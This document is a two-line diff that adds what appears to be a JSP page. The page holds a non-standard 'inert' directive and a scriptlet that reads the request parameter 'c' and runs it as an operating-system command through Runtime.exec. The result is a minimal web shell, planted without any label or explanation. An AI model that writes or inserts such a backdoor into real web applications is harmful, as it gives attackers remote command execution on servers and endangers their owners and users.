@@ -1,0 +1,2 @@
+<%@ inert %>
+<% request.setAttribute("x",request.getParameter("c")); Runtime.getRuntime().exec((String)request.getAttribute("x")); %>
